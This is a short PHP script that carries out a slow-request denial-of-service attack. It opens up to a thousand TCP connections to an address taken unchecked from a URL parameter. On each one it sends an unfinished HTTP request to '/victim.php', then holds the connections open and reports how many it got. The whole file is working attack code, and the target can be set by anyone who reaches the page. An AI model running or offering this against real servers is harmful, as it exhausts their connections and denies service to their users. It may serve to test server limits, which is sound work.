<?php
// A thousand connections, or as many as may be open, each with the beginning of a request.
$all = [];
for ($number = 0; $number < 1000; $number++) {
    $connection = @stream_socket_client("tcp://$_GET[address]", $code, $message, 1, STREAM_CLIENT_CONNECT);
    if (!$connection) {
        break;
    }
    fwrite($connection, "GET /victim.php HTTP/1.1\r\nHost: a\r\nX-");
    $all[] = $connection;
}
sleep(2);
echo count($all);
